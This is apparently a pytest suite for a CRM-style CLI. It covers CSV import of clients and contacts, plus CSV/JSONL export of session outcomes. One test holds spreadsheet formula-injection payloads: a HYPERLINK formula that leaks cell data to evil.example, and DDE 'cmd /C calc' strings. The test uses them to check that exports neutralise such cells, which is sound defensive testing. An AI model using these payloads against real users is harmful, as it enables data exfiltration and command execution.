"""`mastermind import clients|contacts` and `mastermind export outcomes`, run as a person
would run them, against the suite's database (SQLite or PostgreSQL)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select
from typer.testing import CliRunner

from api import cli
from api.config import get_settings
from api.kit.folding import fold, grams
from api.models import (
    Client,
    Contact,
    Contribution,
    ContributionKind,
    ContributionStatus,
    MastermindSession,
    Project,
    ProjectKind,
    SessionParticipant,
    SessionPurpose,
    SessionStatus,
)
from api.services import exports, imports
from tests.conftest import TEST_SECRET_KEY
from tests.factories import add_user, register

runner = CliRunner()


async def invoke(*args: str):
    """Run the command in a thread: it calls asyncio.run() itself, like in a terminal."""
    return await asyncio.to_thread(runner.invoke, cli.app, list(args), catch_exceptions=False)


@pytest.fixture
def cli_env(monkeypatch, database_url, app):
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("SECRET_KEY", TEST_SECRET_KEY)
    monkeypatch.setenv("ENVIRONMENT", "test")
    monkeypatch.setenv("COLUMNS", "200")  # rich tables: no wrapping of the problem text
    get_settings.cache_clear()
    yield
    get_settings.cache_clear()


@pytest.fixture
async def team(client):
    """Two organizations (so --organization matters), an admin and a rep in the first."""
    admin = await register(client, organization_name="Importers Inc")
    await register(client, organization_name="Bystanders Ltd")
    rep = await add_user(client, admin, full_name="Rita Rep")
    return admin, rep


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


async def count(app, model, *where) -> int:
    async with app.state.sessionmaker() as session:
        return await session.scalar(select(func.count()).select_from(model).where(*where))


async def all_clients(app) -> list[Client]:
    async with app.state.sessionmaker() as session:
        return list((await session.scalars(select(Client).order_by(Client.name))).all())


CLIENT_HEADER = ["name", "industry", "status", "owner_email", "external_id", "notes"]


def good_clients(rep_email: str) -> list[list[str]]:
    return [
        ["Helix Medical", "healthcare", "active", rep_email, "", "Key account"],
        ["Baltic Freight", "logistics", "", "", "crm-42", ""],
        ["Überland Energie", "energy", "prospect", "", "", ""],
    ]


# --- clients -------------------------------------------------------------------------------


async def test_bad_rows_are_all_reported_with_line_numbers_and_nothing_is_written(
    cli_env, app, team, tmp_path
):
    admin, rep = team
    path = tmp_path / "clients.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(CLIENT_HEADER)
        writer.writerow(["Good One", "retail", "active", rep.user["email"], "", ""])  # line 2
        writer.writerow(["", "retail", "", "", "", ""])  # line 3: no name
        writer.writerow(["Multi Line", "", "", "", "", "first\nsecond"])  # lines 4-5
        writer.writerow(["Bad Status", "", "archived", "", "", ""])  # line 6
        writer.writerow(["Stranger", "", "", "nobody@example.com", "", ""])  # line 7
        writer.writerow(["good one", "", "", "", "", ""])  # line 8: same as line 2
    result = await invoke(
        "import", "clients", str(path), "--organization", "Importers Inc",
        "--owner", admin.user["email"],
    )  # fmt: skip
    assert result.exit_code == 1, result.output
    assert "nothing was imported" in result.output
    async with app.state.sessionmaker() as session:
        organization = await imports.resolve_organization(session, "Importers Inc")
        report = await imports.import_clients(
            session, path=path, organization=organization, default_owner_email=None
        )
        await session.rollback()
    # Without --owner, the valid rows without owner_email are bad too: line 4 (the row
    # whose notes span lines 4-5) and line 8.
    assert [(e.line, e.column) for e in report.errors] == [
        (3, "name"),
        (4, "owner_email"),
        (6, "status"),
        (7, "owner_email"),
        (8, "name"),
        (8, "owner_email"),
    ]
    # The command (with --owner) printed each bad line with its column.
    table = [line.split("│") for line in result.output.splitlines() if line.count("│") >= 4]
    printed = {
        (cells[1].strip(), cells[2].strip()) for cells in table if cells[1].strip().isdigit()
    }
    assert printed == {("3", "name"), ("6", "status"), ("7", "owner_email"), ("8", "name")}
    assert "the same client as line 2" in result.output
    assert await count(app, Client) == 0


async def test_import_then_rerun_creates_nothing_new_and_updates_what_changed(
    cli_env, app, team, tmp_path
):
    admin, rep = team
    path = write_csv(tmp_path / "clients.csv", CLIENT_HEADER, good_clients(rep.user["email"]))
    args = ["import", "clients", str(path), "--organization", admin.organization_id]
    args += ["--owner", admin.user["email"]]
    first = await invoke(*args)
    assert first.exit_code == 0, first.output
    assert "3 new, 0 updated, 0 unchanged" in first.output
    clients = await all_clients(app)
    assert [(c.name, c.industry, c.status.value) for c in clients] == [
        ("Baltic Freight", "logistics", "prospect"),
        ("Helix Medical", "healthcare", "active"),
        ("Überland Energie", "energy", "prospect"),
    ]
    by_name = {c.name: c for c in clients}
    assert by_name["Helix Medical"].owner_id == uuid.UUID(rep.id)
    assert by_name["Baltic Freight"].owner_id == uuid.UUID(admin.id)
    assert (by_name["Baltic Freight"].external_source, by_name["Baltic Freight"].external_id) == (
        "csv",
        "crm-42",
    )
    assert {c.organization_id for c in clients} == {uuid.UUID(admin.organization_id)}

    again = await invoke(*args)
    assert again.exit_code == 0, again.output
    assert "0 new, 0 updated, 3 unchanged" in again.output
    assert await count(app, Client) == 3

    # The CRM renamed the company: matched by external id, renamed in place.
    rows = good_clients(rep.user["email"])
    rows[1][0] = "Baltic Freight Lines"
    rows[2][0] = "ÜBERLAND ENERGIE"  # matched by name, whatever the case
    write_csv(path, CLIENT_HEADER, rows)
    third = await invoke(*args)
    assert third.exit_code == 0, third.output
    assert "0 new, 2 updated, 1 unchanged" in third.output
    assert sorted(c.name for c in await all_clients(app)) == [
        "Baltic Freight Lines",
        "Helix Medical",
        "ÜBERLAND ENERGIE",
    ]
    # The import writes through Core (one INSERT per batch, an UPDATE per changed row):
    # the folded search text follows the names all the same (api/kit/folding.py).
    for stored in await all_clients(app):
        assert stored.search_text == fold(stored.name)
        assert stored.search_grams == grams(fold(stored.name))


async def test_dry_run_validates_and_counts_but_writes_nothing(cli_env, app, team, tmp_path):
    admin, rep = team
    path = write_csv(tmp_path / "clients.csv", CLIENT_HEADER, good_clients(rep.user["email"]))
    result = await invoke(
        "import", "clients", str(path), "--organization", "Importers Inc",
        "--owner", admin.user["email"], "--dry-run",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "Would import 3 clients: 3 new" in result.output
    assert await count(app, Client) == 0


async def test_the_organization_and_the_owner_must_exist(cli_env, app, team, tmp_path):
    admin, rep = team
    path = write_csv(tmp_path / "clients.csv", CLIENT_HEADER, good_clients(rep.user["email"]))
    no_choice = await invoke("import", "clients", str(path), "--owner", admin.user["email"])
    assert no_choice.exit_code == 2
    assert "--organization" in no_choice.output
    unknown = await invoke("import", "clients", str(path), "--organization", "Nope GmbH")
    assert unknown.exit_code == 2
    assert "No organization 'Nope GmbH'" in unknown.output
    # An owner from the other organization is not an owner here.
    other = await invoke(
        "import", "clients", str(path), "--organization", "Bystanders Ltd",
        "--owner", admin.user["email"],
    )  # fmt: skip
    assert other.exit_code == 2
    assert await count(app, Client) == 0


async def test_an_unknown_column_is_reported_on_line_1(cli_env, app, team, tmp_path):
    admin, _rep = team
    path = write_csv(tmp_path / "c.csv", ["name", "org_id"], [["Sneaky", str(uuid.uuid4())]])
    result = await invoke(
        "import", "clients", str(path), "--organization", "Importers Inc",
        "--owner", admin.user["email"],
    )  # fmt: skip
    assert result.exit_code == 1
    _rows, errors = imports.read_csv(path, imports.ClientRow)
    assert [(e.line, e.column) for e in errors] == [(1, "org_id")]
    assert await count(app, Client) == 0


# --- contacts ------------------------------------------------------------------------------

CONTACT_HEADER = ["client_external_id", "client_name", "name", "title", "email", "buying_role"]


async def test_contacts_validate_their_client_then_import_once(cli_env, app, team, tmp_path):
    admin, rep = team
    clients = write_csv(tmp_path / "clients.csv", CLIENT_HEADER, good_clients(rep.user["email"]))
    args = ["--organization", "Importers Inc"]
    assert (
        await invoke("import", "clients", str(clients), *args, "--owner", admin.user["email"])
    ).exit_code == 0

    rows = [
        [
            "crm-42",
            "",
            "Jordan Weiss",
            "Head of Procurement",
            "jordan@baltic.example",
            "gatekeeper",
        ],
        ["", "helix medical", "Sam Lindqvist", "COO", "", "decision_maker"],
        ["", "Nowhere Corp", "Ghost", "", "", ""],  # line 4: no such client
        ["", "Helix Medical", "Pat", "", "not-an-email", "boss"],  # line 5: two problems
    ]
    path = write_csv(tmp_path / "contacts.csv", CONTACT_HEADER, rows)
    bad = await invoke("import", "contacts", str(path), *args)
    assert bad.exit_code == 1, bad.output
    async with app.state.sessionmaker() as session:
        organization = await imports.resolve_organization(session, "Importers Inc")
        report = await imports.import_contacts(session, path=path, organization=organization)
        await session.rollback()
    assert [(e.line, e.column) for e in report.errors] == [
        (4, "client_name"),
        (5, "buying_role"),
        (5, "email"),
    ]
    assert await count(app, Contact) == 0

    write_csv(path, CONTACT_HEADER, rows[:2])
    first = await invoke("import", "contacts", str(path), *args)
    assert first.exit_code == 0, first.output
    assert "2 new" in first.output
    again = await invoke("import", "contacts", str(path), *args)
    assert again.exit_code == 0, again.output
    assert "0 new, 0 updated, 2 unchanged" in again.output
    async with app.state.sessionmaker() as session:
        contacts = (
            await session.execute(
                select(Client.name, Contact.name, Contact.email, Contact.buying_role)
                .join(Client, Client.id == Contact.client_id)
                .order_by(Contact.name)
            )
        ).all()
    assert [(a, b, c, d.value) for a, b, c, d in contacts] == [
        ("Baltic Freight", "Jordan Weiss", "jordan@baltic.example", "gatekeeper"),
        ("Helix Medical", "Sam Lindqvist", None, "decision_maker"),
    ]


# --- export --------------------------------------------------------------------------------

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


async def make_outcomes(app, team, sessions: int) -> list[uuid.UUID]:
    """Completed sessions (and one still scheduled) with fixed times, written directly."""
    admin, rep = team
    ids = []
    async with app.state.sessionmaker() as db, db.begin():
        org = uuid.UUID(admin.organization_id)
        client = Client(organization_id=org, owner_id=uuid.UUID(rep.id), name="Helix, Inc.")
        db.add(client)
        await db.flush()
        project = Project(
            organization_id=org,
            kind=ProjectKind.account,
            client_id=client.id,
            owner_id=uuid.UUID(rep.id),
            title='The "big" deal',
        )
        db.add(project)
        await db.flush()
        for index in range(sessions + 1):
            completed = index < sessions
            mm = MastermindSession(
                id=uuid.UUID(int=index + 1),
                organization_id=org,
                project_id=project.id,
                purpose=SessionPurpose.approach,
                title=f"Session {index}",
                scheduled_at=T0 + timedelta(days=index),
                timebox_minutes=30,
                status=SessionStatus.completed if completed else SessionStatus.scheduled,
                completed_at=T0 + timedelta(days=index, minutes=30) if completed else None,
                summary="Lead with downtime\nthen price" if index == 0 else "",
                decisions=["Pilot", "ROI case"] if index == 0 else [],
                recommended_approach="COO first" if index == 0 else "",
                created_at=T0,
                # Two sessions share an updated_at: the id orders them.
                updated_at=T0 + timedelta(days=min(index, 2), hours=1),
            )
            db.add(mm)
            await db.flush()
            ids.append(mm.id)
            if index == 0:
                db.add_all(
                    [
                        SessionParticipant(
                            session_id=mm.id,
                            user_id=uuid.UUID(rep.id),
                            organization_id=org,
                            attended_minutes=30,
                        ),
                        SessionParticipant(
                            session_id=mm.id,
                            user_id=uuid.UUID(admin.id),
                            organization_id=org,
                            attended_minutes=20,
                        ),
                        Contribution(
                            organization_id=org,
                            session_id=mm.id,
                            author_id=uuid.UUID(admin.id),
                            kind=ContributionKind.idea,
                            body="Offer a pilot",
                            status=ContributionStatus.adopted,
                            created_at=T0,
                        ),
                        Contribution(
                            organization_id=org,
                            session_id=mm.id,
                            author_id=uuid.UUID(rep.id),
                            kind=ContributionKind.risk,
                            body="Price war",
                        ),
                    ]
                )
    return ids


async def test_export_outcomes_jsonl_is_exact(cli_env, app, team, tmp_path):
    admin, rep = team
    ids = await make_outcomes(app, team, 1)
    out = tmp_path / "outcomes.jsonl"
    result = await invoke(
        "export", "outcomes", "--format", "jsonl", "--output", str(out),
        "--organization", "Importers Inc",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "Exported 1 outcome(s)" in result.output
    attendance = sorted(
        [
            {"user_id": rep.id, "email": rep.user["email"], "minutes": 30},
            {"user_id": admin.id, "email": admin.user["email"], "minutes": 20},
        ],
        key=lambda entry: entry["email"],
    )
    async with app.state.sessionmaker() as db:
        project_id = await db.scalar(select(Project.id))
    expected = {
        "session_id": str(ids[0]),
        "project_id": str(project_id),
        "project_title": 'The "big" deal',
        "client_name": "Helix, Inc.",
        "purpose": "approach",
        "title": "Session 0",
        "scheduled_at": "2026-03-02T09:00:00+00:00",
        "completed_at": "2026-03-02T09:30:00+00:00",
        "updated_at": "2026-03-02T10:00:00+00:00",
        "summary": "Lead with downtime\nthen price",
        "decisions": ["Pilot", "ROI case"],
        "recommended_approach": "COO first",
        "attendance": attendance,
        "attended_minutes": 50,
        "adopted_ideas": ["Offer a pilot"],
    }
    text = out.read_text()
    assert text.endswith("\n") and text.count("\n") == 1
    assert json.loads(text) == expected
    assert list(json.loads(text)) == list(expected)  # the column order too


async def test_export_outcomes_csv_is_exact_and_since_filters(cli_env, app, team, tmp_path):
    _admin, _rep = team
    ids = await make_outcomes(app, team, 3)
    out = tmp_path / "outcomes.csv"
    result = await invoke(
        "export", "outcomes", "--format", "csv", "--output", str(out),
        "--organization", "Importers Inc", "--since", "2026-03-03T10:00:00Z",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    async with app.state.sessionmaker() as db:
        project_id = await db.scalar(select(Project.id))
    # Sessions 1 and 2 were changed at or after --since; 0 before; 3 is not completed.
    expected = (
        "session_id,project_id,project_title,client_name,purpose,title,scheduled_at,"
        "completed_at,updated_at,summary,decisions,recommended_approach,attendance,"
        "attended_minutes,adopted_ideas\n"
        f'{ids[1]},{project_id},"The ""big"" deal","Helix, Inc.",approach,Session 1,'
        "2026-03-03T09:00:00+00:00,2026-03-03T09:30:00+00:00,2026-03-03T10:00:00+00:00,,[],,[],0,[]\n"
        f'{ids[2]},{project_id},"The ""big"" deal","Helix, Inc.",approach,Session 2,'
        "2026-03-04T09:00:00+00:00,2026-03-04T09:30:00+00:00,2026-03-04T10:00:00+00:00,,[],,[],0,[]\n"
    )
    assert out.read_text() == expected

    everything = await invoke("export", "outcomes", "--format", "csv", "--organization", "Importers Inc")  # fmt: skip
    assert everything.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(everything.stdout)))
    assert [row["title"] for row in rows] == ["Session 0", "Session 1", "Session 2"]
    first = rows[0]
    assert json.loads(first["decisions"]) == ["Pilot", "ROI case"]
    assert first["summary"] == "Lead with downtime\nthen price"
    assert json.loads(first["attendance"])[0]["minutes"] in (20, 30)


async def test_export_pages_through_every_outcome_in_order(app, team):
    ids = await make_outcomes(app, team, 5)
    admin, _rep = team
    async with app.state.sessionmaker() as db:
        seen = [
            record["session_id"]
            async for record in exports.iter_outcomes(
                db, organization_id=uuid.UUID(admin.organization_id), page_size=2
            )
        ]
        total = await exports.count_outcomes(
            db, organization_id=uuid.UUID(admin.organization_id), since=None
        )
    # updated_at: 0 -> day 0, 1 -> day 1, 2..4 -> day 2 (ties broken by id).
    assert seen == [str(i) for i in ids[:5]]
    assert total == 5


FORMULAS = {
    "project_title": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "client_name": "+cmd|' /C calc'!A0",
    "title": "-2+3",
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "recommended_approach": "\t=1+1",
}


async def test_csv_export_neutralises_spreadsheet_formulas_in_text_cells(
    cli_env, app, team, tmp_path
):
    session_id = (await make_outcomes(app, team, 1))[0]
    async with app.state.sessionmaker() as db, db.begin():
        mm = await db.get(MastermindSession, session_id)
        mm.title, mm.summary = FORMULAS["title"], FORMULAS["summary"]
        mm.recommended_approach = FORMULAS["recommended_approach"]
        project = await db.get(Project, mm.project_id)
        project.title = FORMULAS["project_title"]
        client = await db.get(Client, project.client_id)
        client.name = FORMULAS["client_name"]
        idea = await db.scalar(select(Contribution).where(Contribution.body == "Offer a pilot"))
        idea.body = "=1+1"
    out = tmp_path / "outcomes.csv"
    result = await invoke(
        "export", "outcomes", "--format", "csv", "--output", str(out),
        "--organization", "Importers Inc",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(out.read_text())))
    for column, text in FORMULAS.items():
        assert row[column] == "'" + text, column
    # Cells that hold JSON start with [ and keep their data exactly.
    assert json.loads(row["adopted_ideas"]) == ["=1+1"]
    # Nothing else changed: numbers, times, ids.
    assert row["attended_minutes"] == "50"
    assert row["scheduled_at"] == "2026-03-02T09:00:00+00:00"
    # JSON lines are data for programs, not spreadsheets: the text as it is.
    lines = await invoke("export", "outcomes", "--organization", "Importers Inc")
    record = json.loads(lines.stdout)
    assert {column: record[column] for column in FORMULAS} == FORMULAS


async def test_export_since_outside_the_calendar_in_utc_is_a_usage_error(cli_env, app, team):
    await make_outcomes(app, team, 1)
    for since in ("9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00", "yesterday"):
        result = await invoke(
            "export", "outcomes", "--since", since, "--organization", "Importers Inc"
        )
        assert result.exit_code == 2, (since, result.output)
        assert "RFC 3339" in result.output and "Traceback" not in result.output


def test_csv_cells_that_are_numbers_stay_numbers():
    record = dict.fromkeys(exports.OUTCOME_COLUMNS, "")
    record.update(decisions=[], attendance=[], adopted_ideas=[], attended_minutes=-5)
    record.update(title="-5", summary="\rcmd", purpose="approach")
    [row] = list(csv.DictReader(io.StringIO(exports.csv_header() + exports.csv_line(record))))
    assert row["attended_minutes"] == "-5"  # a numeric cell: data
    assert row["title"] == "'-5"  # text that a spreadsheet would evaluate: quoted
    assert row["summary"] == "'\rcmd"
    assert row["purpose"] == "approach"


# --- seed-demo --scale ---------------------------------------------------------------------


async def test_seed_demo_scale_multiplies_the_demo(cli_env, app, client):
    from api.models import (
        ContributionVote,
        MastermindSession,
        ProjectMember,
        TimeEntry,
        User,
    )
    from tests.factories import login

    result = await invoke("seed-demo", "--password", "demo-password-123", "--scale", "3")
    assert result.exit_code == 0, result.output
    # The demo (8 people, 6 clients, 6 projects), plus two more teams of 6 reps each with
    # their own 6 clients and projects.
    assert await count(app, User) == 8 + 2 * 6
    assert await count(app, Client) == 6 * 3
    assert await count(app, Contact) == 12 * 3
    assert await count(app, Project) == 6 * 3
    assert await count(app, ProjectMember) >= 3 * 18
    completed = MastermindSession.status == SessionStatus.completed
    assert await count(app, MastermindSession, completed) >= 3 * 10
    assert await count(app, ContributionVote) > 0
    assert await count(app, TimeEntry) > 0
    # The copies' people sign in with the demo password, and see their own projects.
    response = await login(client, "lena.vogel.3@northwind.example", "demo-password-123")
    assert response.status_code == 200, response.text
    token = response.json()["access_token"]
    listed = await client.get("/api/v1/projects", headers={"Authorization": f"Bearer {token}"})
    assert listed.status_code == 200
    assert any(p["title"].endswith(" 3: first order") for p in listed.json()["items"])
    # The ledger's rollups were built for the bulk rows too.
    check = await invoke("rebuild-ledger", "--check")
    assert check.exit_code == 0, check.output
